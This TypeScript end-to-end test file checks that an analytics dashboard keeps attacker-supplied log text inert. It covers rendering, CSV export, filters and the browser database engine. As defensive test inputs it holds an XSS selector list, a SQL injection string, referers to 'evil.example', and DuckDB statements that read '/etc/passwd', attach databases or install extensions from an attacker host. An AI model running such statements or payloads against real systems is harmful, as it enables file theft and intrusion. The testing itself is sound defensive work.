import fc from 'fast-check'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { visible } from '../../src/lib/format/visible.ts'
import { columns } from '../../src/lib/schema/hit.ts'
import { canaries } from '../fixtures/canaries.ts'
import { follow, openOverview, settled } from './overview.ts'
import { browser, running, stack } from './running.ts'

const site = 'strangers.example'
const now = Date.now()

/** A request whose every text somebody else chose. */
const hitOf = (text: string, i: number) =>
  JSON.stringify({
    time_iso8601: new Date(now - i * 60_000).toISOString(),
    remote_addr: `203.0.113.${i}`,
    request_method: 'GET',
    request_uri: `/${text}?q=${text}&utm_source=${text}`,
    status: i % 3 ? '200' : '404',
    body_bytes_sent: '10',
    request_time: '0.1',
    http_user_agent: text,
    http_referer: i % 2 ? `https://evil.example/${text}` : text,
    host: text,
    remote_user: text,
    server_name: text,
    upstream_cache_status: text,
    [text]: text
  })

/** Elements and attributes that only markup of a stranger would bring. */
const foreignMarkup = `iframe, object, embed, base, video, audio, math, source, animate, link[href*="evil"],
  img:not([src^="/"]), meta[http-equiv="refresh"], form[action], a[href^="javascript" i], a[href^="data" i],
  [onerror], [onload], [onfocus], [onmouseover], [ontoggle], [onbegin], [srcdoc]`

describe('what strangers write', () => {
  const ran: unknown[] = []

  running(async () => {
    const { context } = browser
    await context.exposeFunction('canary', (which: unknown) => void ran.push(which))
    context.on('dialog', (dialog) => void (ran.push(dialog.message()), dialog.dismiss()))
    await context.addInitScript(() => {
      // The engine's worker, so that a test can speak to it as a script in the page could.
      const Own = window.Worker
      window.Worker = class extends Own {
        constructor(url: string | URL, options?: WorkerOptions) {
          super(url, options)
          if (String(url).includes('engine-worker')) Object.assign(window, { engine: this })
        }
      }
    })
    await stack.push(canaries.map(hitOf), { site })
    await stack.client.createToken(site)
    // Lines of their own: nothing of them is a request.
    await stack.push(
      canaries.map((text) => `no request: ${text}`),
      { site, type: 'text/plain' }
    )
    await stack.waitForRows(site, canaries.length)
    await stack.signIn(context)
  })

  /** Nothing has run, and nothing on the page is anybody else's. */
  async function expectInert(page: Page) {
    expect(ran).toEqual([])
    expect(
      await page.locator(foreignMarkup).evaluateAll((found) => found.map((one) => one.outerHTML))
    ).toEqual([])
    const scripts = await page.locator('script:not([src])').allTextContents()
    expect(scripts.filter((text) => !text.includes('__sveltekit'))).toEqual([])
  }

  it('is text on the overview, under the pointer too', async () => {
    const { page } = browser
    await openOverview(page, stack.url, site, 'p=24h')
    await expectInert(page)
    for (const row of await page.locator('section.panel li > button:first-child').all())
      if (await row.isVisible()) await row.hover({ force: true, timeout: 2_000 }).catch(() => {})
    for (const tab of await page.locator('section.panel .tabs button').all()) {
      await tab.click()
      await expectInert(page)
    }
    await settled(page)
    await expectInert(page)
  })

  /** Opens the dialog of a field's values, from the overview: its last answer is never that of another field. */
  const openValues = async (field: string) => {
    const { page } = browser
    await follow(page, `${stack.url}/s/${site}?p=24h`)
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    await follow(page, `${stack.url}/s/${site}/top/${field}?p=24h`)
    await page.locator('dialog [aria-busy="false"] tbody tr').first().waitFor()
  }

  it.each(['path', 'user_agent', 'referrer', 'host', 'query', 'cache_status'])(
    'is text among all values of %s',
    async (field) => {
      const { page } = browser
      await openValues(field)
      await expectInert(page)
      if (field !== 'user_agent') return
      const titles = await page
        .locator('dialog tbody th button')
        .evaluateAll((buttons) => buttons.map((button) => (button as HTMLElement).title))
      expect(titles.toSorted()).toEqual(canaries.map(visible).toSorted())
    }
  )

  it('leaves no formula in an export', async () => {
    const { page } = browser
    await openValues('user_agent')
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'CSV' }).click()
    ])
    const chunks: Buffer[] = []
    for await (const chunk of await download.createReadStream()) chunks.push(chunk as Buffer)
    const lines = Buffer.concat(chunks).toString().split('\r\n').slice(1, -1)
    expect(lines.length).toBe(canaries.length)
    expect(lines.filter((line) => /^"?[=+\-@\t＝＋－＠]/.test(line))).toEqual([])
    expect(lines.filter((line) => /^"?'[=+\-@＝]/.test(line)).length).toBe(6)
  })

  it('is text in quarantine, record by record', async () => {
    const { page } = browser
    await page.goto(`${stack.url}/s/${site}/status`)
    const older = page.getByRole('button', { name: 'Older records' })
    const records = page.locator('.quarantine li')
    await records.nth(19).waitFor()
    while ((await records.count()) < canaries.length) {
      const count = await records.count()
      await older.click()
      await records.nth(count).waitFor()
    }
    const texts = await page.locator('.quarantine code').allTextContents()
    expect(texts.toReversed()).toEqual(canaries.map((text) => visible(`no request: ${text}`.trim())))
    await expectInert(page)
  })

  it('is text in a filter, in what is suggested for it, and in the palette', async () => {
    const { page } = browser
    for (const [i, text] of canaries.entries()) {
      const query = new URLSearchParams({ p: '24h' })
      query.append('f', `is,user_agent,${text.replaceAll(',', '%2C')}`)
      if (i % 8) continue
      await follow(page, `${stack.url}/s/${site}?${query}`)
      await page.getByRole('group', { name: 'Filter: ' }).waitFor()
      await page.waitForFunction(() => !document.querySelector('[aria-busy="true"], .skeleton'))
      await expectInert(page)
    }
    await follow(page, `${stack.url}/s/${site}?p=24h`)
    await page.keyboard.press('Control+k')
    await page.getByRole('combobox', { name: 'Search and jump' }).fill('canary')
    await page.locator('dialog [role="option"]').first().waitFor()
    await expectInert(page)
  })

  it.each(['', `s/${site}/settings`, `s/${site}/setup`, 'device', 'open'])('is text on /%s', async (path) => {
    const { page } = browser
    await page.goto(`${stack.url}/${path}`)
    await page.locator('h1, h2').first().waitFor()
    await page.waitForTimeout(500)
    await expectInert(page)
  })

  it('cannot take the engine outside', async () => {
    const { page } = browser
    await follow(page, `${stack.url}/s/${site}?p=24h`)
    await settled(page)
    const statements = [
      `SELECT * FROM read_csv('/etc/passwd')`,
      `SELECT * FROM read_text('/etc/passwd')`,
      `SELECT * FROM glob('*')`,
      `SELECT * FROM read_csv('${stack.url}/api/sites')`,
      `SELECT * FROM 'opfs://loggia-${site}.db'`,
      `SELECT * FROM read_blob('opfs://loggia-other.db')`,
      `COPY (SELECT 1) TO 'out.csv'`,
      `EXPORT DATABASE 'out'`,
      `ATTACH 'other.db'`,
      `ATTACH 'opfs://loggia-other.db'`,
      `LOAD httpfs`,
      `LOAD '/tmp/any.duckdb_extension'`,
      `SET enable_external_access = true`,
      `SET lock_configuration = false`,
      `RESET lock_configuration`,
      `SET autoload_known_extensions = true`,
      `PRAGMA enable_external_access = true`,
      `SET memory_limit = '1TB'`
    ]
    const answers = await page.evaluate(askEngine, ['SELECT 1', ...statements])
    expect(answers).toEqual(['SELECT 1'])
    // In a browser this fetches nothing until it is loaded, which is refused.
    await page.evaluate(askEngine, ['INSTALL httpfs', `INSTALL httpfs FROM 'https://evil.example'`])
    expect(browser.requests.filter((url) => /extension/.test(url))).toEqual([])
    browser.expectNoForeign()
  })

  it('breaks no page by an address', async () => {
    const { page } = browser
    browser.errors.length = 0
    for (const query of fc.sample(address, { seed: 26, numRuns: 60 })) {
      await follow(page, `?${query}`)
      await page.waitForFunction(
        () =>
          document.querySelector('#figure-requests')?.getAttribute('title') &&
          !document.querySelector('[aria-busy="true"]'),
        undefined,
        { polling: 50 }
      )
      const failed = await page.getByText('This query failed.').count()
      expect([query, failed, browser.errors]).toEqual([query, 0, []])
    }
    await expectInert(page)
    browser.expectNoForeign()
  })
})

const word = fc.oneof(
  fc.constantFrom(...canaries),
  fc.string({ unit: 'binary', maxLength: 24 }),
  fc.constantFrom("'; DROP TABLE hits; --", '$$', '\0', '%', '[', '(', '*', '9'.repeat(40), '-1', 'NaN', '')
)
const field = fc.oneof(fc.constantFrom(...columns.map(({ name }) => name)), word)
const operator = fc.oneof(
  fc.constantFrom(
    'is',
    'not',
    'has',
    'hasnt',
    're',
    'nre',
    'gt',
    'lt',
    'ge',
    'le',
    'cidr',
    'set',
    'unset',
    '~is'
  ),
  word
)
const clause = fc
  .tuple(operator, field, fc.array(word, { maxLength: 3 }))
  .map(([name, column, values]) => ['f', [name, column, ...values].join(',')] as [string, string])
const flat = fc.tuple(fc.constantFrom('p', 's', 'cmp', 'i', 'tz', 't', 'm', 'x', 'top'), word)
const period = fc
  .tuple(
    fc.constant('p'),
    fc.constantFrom('today', '7d', 'all', '2026-11-01,2026-11-21', '0000-00-00,9999-99-99')
  )
  .map((pair) => pair as [string, string])
const address = fc
  .array(fc.oneof(clause, flat, period), { maxLength: 5 })
  .map((pairs) => new URLSearchParams(pairs).toString())

/** Runs in the page: asks the engine's worker by its own messages, and gives the statements that it answered. */
async function askEngine(statements: string[]): Promise<string[]> {
  const { engine } = window as unknown as { engine: Worker }
  let last = 1_000_000
  const call = (name: string, ...args: unknown[]) =>
    new Promise<{ id: number; value: unknown } | { id: number; error: string }>((resolve) => {
      const id = last++
      const listen = ({ data }: MessageEvent<{ id: number; value: unknown }>) => {
        if (data.id !== id) return
        engine.removeEventListener('message', listen)
        resolve(data)
      }
      engine.addEventListener('message', listen)
      engine.postMessage({ id, name, args })
    })
  const connected = await call('connect')
  const answers = []
  for (const sql of statements)
    if ('value' in connected && 'value' in (await call('run', connected.value, sql))) answers.push(sql)
  return answers
}
